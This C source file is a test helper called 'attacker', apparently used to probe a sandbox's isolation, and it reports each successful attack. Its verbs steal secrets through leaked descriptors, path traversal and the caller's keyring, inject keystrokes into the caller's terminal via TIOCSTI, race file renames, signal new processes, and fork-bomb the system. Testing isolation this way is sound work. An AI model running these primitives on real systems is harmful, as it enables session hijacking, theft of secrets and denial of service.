/* SPDX-License-Identifier: LGPL-2.1-or-later */
#include "hostile/attacker.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include <linux/capability.h>
#include <linux/keyctl.h>

#define MAX_FDS  256
#define MAX_BOMB 4096

void won(const char *what, const char *fmt, ...)
{
	static const char *said[32];
	char text[512];
	size_t i = 0;
	va_list ap;

	while (i < sizeof(said) / sizeof(said[0]) && said[i] != NULL)
		if (strcmp(said[i++], what) == 0)
			return;
	if (i < sizeof(said) / sizeof(said[0]))
		said[i] = what;
	va_start(ap, fmt);
	vsnprintf(text, sizeof(text), fmt, ap);
	va_end(ap);
	printf("won %s: %s\n", what, text);
	fflush(stdout);
}

void ready(void)
{
	puts("ready");
	fflush(stdout);
}

bool goes_on(void)
{
	struct pollfd p = { .fd = 0, .events = POLLIN };
	char c = 0;

	return poll(&p, 1, 0) == 0 || read(0, &c, 1) > 0;
}

pid_t last_pid(void)
{
	static int fd = -1;
	char text[128];
	ssize_t n = 0;
	const char *p = NULL;

	if (fd < 0)
		fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
	n = pread(fd, text, sizeof(text) - 1, 0);
	if (n <= 0)
		return 0;
	text[n] = '\0';
	p = strrchr(text, ' ');
	return p == NULL ? 0 : (pid_t)strtol(p + 1, NULL, 10);
}

static void sleep_ms(long ms)
{
	const struct timespec t = { ms / 1000, ms % 1000 * 1000000 };

	nanosleep(&t, NULL);
}

/* ---- loot SECRET PATH: what a job that is the attacker's own has got from the caller ---- */

static void loot_path(const char *what, const char *prefix, const char *path)
{
	char name[PATH_MAX];
	char text[256] = "";
	int fd = -1;

	snprintf(name, sizeof(name), "%s%s", prefix, path);
	fd = open(name, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && read(fd, text, sizeof(text) - 1) > 0)
		won(what, "%s: %.40s", name, text);
	if (fd >= 0)
		close(fd);
}

static void loot_descriptors(const char *path)
{
	char prefix[64];
	struct stat st;

	for (int fd = 0; fd < MAX_FDS; fd++) {
		if (fstat(fd, &st) < 0)
			continue;
		snprintf(prefix, sizeof(prefix), "/proc/self/fd/%d", fd);
		loot_path("descriptor", prefix, path);
		if (fd > 2)
			won("number", "descriptor %d is open", fd);
	}
	loot_path("cwd", "../../../../../../../..", path);
	loot_path("cwd", ".", path);
}

static void loot_rights(void)
{
	struct __user_cap_header_struct head = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct sets[2] = { { 0 }, { 0 } };

	if (syscall(SYS_capget, &head, sets) == 0 && (sets[0].inheritable | sets[1].inheritable))
		won("inheritable", "%x%08x", sets[1].inheritable, sets[0].inheritable);
	for (unsigned long cap = 0; cap < 64; cap++)
		if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_IS_SET, cap, 0, 0) == 1)
			won("ambient", "capability %lu", cap);
	if (syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user",
	            "attache-test-secret", 0) >= 0)
		won("keyring", "a key of the caller's");
}

static void loot_signals(void)
{
	sigset_t blocked;
	struct sigaction act;

	sigprocmask(SIG_BLOCK, NULL, &blocked);
	for (int sig = 1; sig < SIGRTMIN; sig++) {
		if (sigismember(&blocked, sig) == 1)
			won("blocked", "signal %d", sig);
		if (sigaction(sig, NULL, &act) == 0 && act.sa_handler == SIG_IGN)
			won("ignored", "signal %d", sig);
	}
}

static int verb_loot(char *const argv[])
{
	mode_t mask = umask(022);

	for (char **e = environ; *e != NULL; e++)
		if (strstr(*e, argv[0]) != NULL)
			won("environment", "%.60s", *e);
	if (mask != 022)
		won("umask", "%03o", mask);
	if (getsid(0) != getpid())
		won("session", "leader is %d", getsid(0));
	loot_descriptors(argv[1]);
	loot_rights();
	loot_signals();
	return 0;
}

/* ---- inject TEXT DELAY: keys for the caller's shell ---- */

static void push(const char *name, int fd, const char *text)
{
	for (const char *p = text; *p != '\0'; p++)
		if (ioctl(fd, TIOCSTI, p) < 0)
			return;
	won("keys", "through %s", name);
}

static void push_all(const char *text)
{
	static const char *const names[] = { "stdin", "stdout", "stderr" };
	int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);

	push("/dev/tty", tty, text);
	for (int fd = 0; fd < 3; fd++)
		push(names[fd], fd, text);
}

static int verb_inject(char *const argv[])
{
	long ms = strtol(argv[1], NULL, 10);
	char text[64];

	snprintf(text, sizeof(text), "%s\n", argv[0]);
	/* What outlives the session tries again when the caller's shell is back. */
	if (ms > 0) {
		signal(SIGHUP, SIG_IGN);
		if (fork() != 0)
			return 0;
		sleep_ms(ms);
	}
	push_all(text);
	return 0;
}

/* ---- query N DELAY: makes the terminal answer ---- */

static int verb_query(char *const argv[])
{
	for (long n = strtol(argv[0], NULL, 10); n > 0; n--)
		fputs("\033[6n", stdout);
	fflush(stdout);
	sleep_ms(strtol(argv[1], NULL, 10));
	return 0;
}

/* ---- swap A B: each becomes the other, all the time ---- */

static int verb_swap(char *const argv[])
{
	unsigned turn = 0;

	ready();
	while (turn++ % 64 != 0 || goes_on())
		if (renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) < 0)
			return errno;
	printf("swapped %u\n", turn);
	return 0;
}

/* ---- pester SIGNAL: a signal for each new process ---- */

static int verb_pester(char *const argv[])
{
	int sig = (int)strtol(argv[0], NULL, 10);
	unsigned sent = 0;
	unsigned turn = 0;
	pid_t done = last_pid();

	ready();
	while (turn++ % 64 != 0 || goes_on()) {
		pid_t last = last_pid();

		for (pid_t pid = last; pid > done; pid--)
			sent += kill(pid, sig) == 0;
		done = last > done ? last : done;
	}
	printf("sent %u\n", sent);
	return 0;
}

/* ---- bomb: as many processes as there may be ---- */

static int verb_bomb(char *const argv[])
{
	static pid_t bomb[MAX_BOMB];
	size_t n = 0;

	(void)argv;
	/* Refused, it tries again: whoever ends makes room for it. */
	for (unsigned turn = 0; n < MAX_BOMB; turn++) {
		pid_t pid = fork();

		if (pid == 0)
			for (prctl(PR_SET_PDEATHSIG, SIGKILL);;)
				pause();
		if (pid > 0)
			bomb[n++] = pid;
		if (pid < 0 && turn > MAX_BOMB)
			break;
	}
	ready();
	if (n == MAX_BOMB)
		won("processes", "%zu", n);
	while (goes_on())
		sleep_ms(10);
	while (n > 0) {
		kill(bomb[--n], SIGKILL);
		waitpid(bomb[n], NULL, 0);
	}
	return 0;
}

/* ---- churn: an init that never stays the same ---- */

static int verb_churn(char *const argv[])
{
	(void)argv;
	for (int i = 0; i < 50; i++) {
		pid_t pid = fork();

		if (pid == 0)
			_exit(0);
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
	execl("/attacker", "/attacker", "churn", NULL);
	return 1;
}

/* ---- uid: without a look at any file, as id(1) would ---- */

static int verb_uid(char *const argv[])
{
	(void)argv;
	printf("%u\n", getuid());
	return 0;
}

static const struct {
	const char *name;
	int (*run)(char *const argv[]);
	int n_words;
} verbs[] = {
	{ "scan", verb_scan, 2 },       { "loot", verb_loot, 2 },
	{ "inject", verb_inject, 2 },   { "fuse", verb_fuse, 2 },
	{ "monitor", verb_monitor, 1 }, { "swap", verb_swap, 2 },
	{ "cgroups", verb_cgroups, 1 }, { "pester", verb_pester, 1 },
	{ "bomb", verb_bomb, 0 },       { "churn", verb_churn, 0 },
	{ "uid", verb_uid, 0 },         { "query", verb_query, 2 },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(verbs) / sizeof(verbs[0]); i++)
		if (strcmp(argv[1], verbs[i].name) == 0 && argc - 2 >= verbs[i].n_words)
			return verbs[i].run(argv + 2);
	fputs("usage: attacker VERB WORD...\n", stderr);
	return 64;
}
